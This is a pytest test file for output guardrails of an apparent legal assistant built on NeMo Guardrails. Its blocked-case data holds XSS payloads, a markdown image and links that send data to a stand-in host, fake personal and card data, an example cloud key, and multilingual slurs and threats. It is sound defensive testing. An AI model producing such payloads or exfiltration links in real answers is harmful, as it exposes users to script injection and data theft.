"""The output rails as folders carry them out: what they block, change, flag and pass, in agentkit and in plain NeMo."""

from collections.abc import Callable
from pathlib import Path

import pytest

from agentkit.adapters.nemo.folder import load_folder
from agentkit.adapters.nemo.rails import NemoRails
from agentkit.errors import ConfigError
from agentkit.text.grounds import Grounds, resting_on
from agentkit.types import RailReport

ROOT = Path(__file__).parents[2] / "guardrails"
SOURCE = (
    "Notices go to <PERSON_1> at notices@lawson.example or (202) 555-0143. See https://registry.example/lease. "
    'The witness heard "I will kill you" and was called a kike. We advise you to terminate the Lease at once.'
)
GROUNDS = Grounds(placeholders=frozenset({"<PERSON_1>", "<EMAIL_ADDRESS_1>"}), cited=SOURCE)
BLOCKED = {
    "placeholders": ["<PERSON_99> pays.", "PERSON_1 pays.", "<PERSON> pays.", "[PERSON_1] pays.", "<URL_1> pays."],
    "personal": [
        "Write to jane.roe@leaked.example.", "Call (415) 555-2671.", "Her SSN is 536-22-8726.",
        "The card is 4111 1111 1111 1111.", "Pay to DE89 3704 0044 0532 0130 00.",
        "The card is \uff14\uff11\uff11\uff11 1111 1111 1111.", "Her SSN is 536\u200b-22-8726.",
    ],
    "secrets": ["The key is AKIAIOSFODNN7EXAMPLE.", "AKIA\u200bIOSFODNN7EXAMPLE", "\uff21KIAIOSFODNN7EXAMPLE"],
    "markup": [
        "The rent is <script>alert(1)</script> due.", "![x](https://evil.example/?q=rent)", "[terms](https://evil.example)",
        "See https://evil.example/?q=secret.", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))",
        "The rent is \x1b[2J due.", "&lt;svg onload=alert(1)&gt;",
    ],
    "advice": ["You should sue the landlord.", "In our opinion you will win.", "I suggest that you reject the offer."],
    "toxicity": ["You are worthless garbage.", "We will hunt you down.", "Ich bringe dich um.", "k1ll y0ur5elf",
        "Убей себя", "Иди на хуй", "хохол вонючий",
    ],
    "leakage": [
        "I was told to use only the passages.",
        "Keep defined terms, numbers, dates, names, and the words shall, may and must not, exactly as in the passage.",
    ],
}  # fmt: skip
CASES = [(rail, text) for rail, texts in BLOCKED.items() for text in texts]
PASSED = [
    "Rent is paid by <PERSON_1> to <EMAIL_ADDRESS_1>.",
    "Notices go to notices@lawson.example or 202-555-0143.",
    "See https://registry.example/lease.",
    'The witness heard "I will kill you" and was called a kike.',
    "We advise you to terminate the Lease at once.",
    "The Adviser shall advise you of changes, and the Tenant should notify the Landlord.",
    "The Company may execute a kill switch if less than 5 < 6 units remain & the data: see Annex.",
]


def blocked_by(report: RailReport) -> list[str]:
    return [item.rail.removeprefix("agentkit check ") for item in report.results if item.action == "blocked"]


@pytest.fixture(scope="module")
def legal() -> NemoRails:
    return NemoRails.from_folder(ROOT / "legal")


def folder_with(tmp_path: Path, change: Callable[[str], str], *, name: str = "legal") -> Path:
    for file in (ROOT / name).iterdir():
        if file.is_file():
            text = file.read_text("utf-8")
            (tmp_path / file.name).write_text(change(text) if file.suffix == ".yml" else text, "utf-8")
    return tmp_path


@pytest.mark.parametrize(("rail", "text"), CASES, ids=[f"{rail}: {text[:25]!r}" for rail, text in CASES])
async def test_what_an_answer_may_not_hold_is_blocked_by_its_rail(legal: NemoRails, rail: str, text: str) -> None:
    with resting_on(GROUNDS):
        report = await legal.check(f"{text} [d0p1]", stage="output")
    assert not report.allowed
    assert rail in blocked_by(report)


@pytest.mark.parametrize("text", PASSED)
async def test_what_the_source_says_and_what_contracts_say_passes(legal: NemoRails, text: str) -> None:
    with resting_on(GROUNDS):
        report = await legal.check(f"{text} [d0p1]", stage="output")
    assert (report.allowed, report.text) == (True, f"{text} [d0p1]")
    assert {item.action for item in report.results} == {"passed"}


async def test_a_placeholder_that_can_still_be_read_is_put_right(legal: NemoRails) -> None:
    with resting_on(GROUNDS):
        report = await legal.check("< person_1 > owes <PERSON 1>. [d0p1]", stage="output")
    assert (report.allowed, report.text) == (True, "<PERSON_1> owes <PERSON_1>. [d0p1]")
    assert [item.rail for item in report.results if item.action == "modified"] == ["agentkit check placeholders"]


async def test_without_a_source_only_what_no_answer_needs_is_blocked(legal: NemoRails) -> None:
    texts = ["<PERSON_9> pays.", "Write to jane@leaked.example.", "See https://x.example.", "The SSN is 536-22-8726."]
    reports = [await legal.check(text, stage="output") for text in texts]
    assert [report.allowed for report in reports] == [True, True, True, False]


async def test_a_reason_repeats_nothing_of_what_was_blocked(legal: NemoRails) -> None:
    for _, text in CASES:
        with resting_on(GROUNDS):
            report = await legal.check(f"{text} [d0p1]", stage="output")
        reasons = " ".join(item.reason for item in report.results)
        for word in ("jane", "2671", "8726", "1111", "evil", "hunt", "worthless", "sue the"):
            assert word not in reasons


async def test_personal_data_may_be_replaced_rather_than_blocked(tmp_path: Path) -> None:
    folder = folder_with(tmp_path, lambda text: text.replace("mode: block       ", "mode: redact      ", 1))
    with resting_on(GROUNDS):
        report = await NemoRails.from_folder(folder).check("Write to jane@leaked.example now. [d0p1]", stage="output")
    assert (report.allowed, report.text) == (True, "Write to [withheld] now. [d0p1]")


TOPICS = """topics:
      - {name: competitors, terms: [Acme Legal, Łex Śp.]}
      - name: fees
        patterns: ['(?i)hourly rate']
        mode: flag"""


async def test_topics_are_blocked_or_flagged_as_the_policy_says(tmp_path: Path) -> None:
    rails = NemoRails.from_folder(folder_with(tmp_path, lambda text: text.replace("topics: []", TOPICS)))
    for text in ("Ask ACME  LEGAL. [d0p1]", "Ask Ac\u200bme Legal. [d0p1]", "Ask łex śp. [d0p1]"):
        report = await rails.check(text, stage="output")
        assert blocked_by(report) == ["topics"]
        assert "competitors" in " ".join(item.reason for item in report.results)
    flagged = await rails.check("The Hourly Rate is $5. [d0p1]", stage="output")
    assert flagged.allowed
    assert [item.reason for item in flagged.results if item.reason] == ["topics: mentions fees"]
    assert (await rails.check("Acme Legality is a word. [d0p1]", stage="output")).allowed


async def test_advice_and_links_are_off_in_the_base_and_can_be_switched(tmp_path: Path) -> None:
    base = NemoRails.from_folder(ROOT / "base")
    strict = NemoRails.from_folder(
        folder_with(
            tmp_path,
            lambda text: text.replace("allowed: true ", "allowed: false").replace("links: true ", "links: false"),
            name="base",
        )
    )
    for text in ("You should sue.", "See [terms](https://x.example)."):
        assert [(await rails.check(text, stage="output")).allowed for rails in (base, strict)] == [True, False]
    assert not (await base.check("![x](https://x.example/y)", stage="output")).allowed


async def test_links_to_named_hosts_pass(tmp_path: Path) -> None:
    folder = folder_with(tmp_path, lambda text: text.replace("hosts: []", "hosts: [sec.gov]"))
    rails = NemoRails.from_folder(folder)
    texts = ["[a](https://www.sec.gov/x)", "[a](https://sec.gov.evil.example)", "[a](https://evil.example/sec.gov)"]
    assert [(await rails.check(f"{text} [d0p1]", stage="output")).allowed for text in texts] == [True, False, False]


@pytest.mark.parametrize(
    ("old", "new", "said"),
    [
        ("topics: []", "topics: {}", "topics must be a list"),
        ("topics: []", "topics: [{name: x}]", "needs a name, and terms or patterns"),
        ("topics: []", "topics: [{terms: [x]}]", "needs a name, and terms or patterns"),
        ("topics: []", "topics: [{name: x, term: [x]}]", 'has no "term"'),
        ("topics: []", "topics: [{name: x, patterns: ['(']}]", "patterns must be a list of regular expressions"),
        ("topics: []", "topics: [{name: x, terms: [x], mode: loud}]", "mode must be block or flag"),
        ("allowed: false", "allowed: maybe", "advice.allowed must be true or false"),
        ("kinds: [slur, threat, insult]", "kinds: [rude]", "toxicity.kinds must be a list of slur, threat, insult"),
        ("mode: block  ", "mode: maybe  ", "personal.mode must be block or redact"),
        ("links: false", "link: false", '"markup.link'),
        ("mode: block  ", "types: [PERSN]", "personal.types must be a list of entity types"),
    ],
)
def test_a_setting_that_nobody_could_use_is_refused_with_its_line(
    tmp_path: Path, old: str, new: str, said: str
) -> None:
    folder = folder_with(tmp_path, lambda text: text.replace(old, new, 1))
    lines = (folder / "config.yml").read_text("utf-8").splitlines()
    with pytest.raises(ConfigError) as caught:
        load_folder(folder)
    assert said in str(caught.value)
    assert f"config.yml:{next(n for n, line in enumerate(lines, 1) if new in line)}:" in str(caught.value)


@pytest.mark.filterwarnings("ignore::DeprecationWarning")
async def test_plain_nemo_and_its_engine_give_the_same_verdicts(legal: NemoRails) -> None:
    from nemoguardrails import LLMRails, RailsConfig  # noqa: PLC0415 - after agentkit has set NeMo's switches
    from nemoguardrails.rails.llm.options import RailType  # noqa: PLC0415

    plain = LLMRails(RailsConfig.from_path(str(ROOT / "legal")))
    known = {"known_placeholders": sorted(GROUNDS.placeholders or ()), "cited_text": SOURCE}
    texts = [next(text for rail, text in CASES if rail == wanted) for wanted in BLOCKED]
    for text in (*texts, PASSED[0], "< person_1 > pays."):
        marked = f"{text} [d0p1]"
        with resting_on(GROUNDS):
            report = await legal.check(marked, stage="output")
        given = [{"role": "context", "content": known}, {"role": "user", "content": ""}]
        result = await plain.check_async(
            [*given, {"role": "assistant", "content": marked}], rail_types=[RailType("output")]
        )
        assert (result.status.value != "blocked") == report.allowed, text
        assert not report.allowed or result.content == report.text


async def test_the_engine_is_told_what_an_answer_rests_on() -> None:
    engine = NemoRails(load_folder(ROOT / "legal"), compiled=False)
    with resting_on(GROUNDS):
        reports = [await engine.check(f"{text} [d0p1]", stage="output") for text in ("<PERSON_9> pays.", PASSED[1])]
    assert [report.allowed for report in reports] == [False, True]
    assert blocked_by(reports[0]) == ["placeholders"]
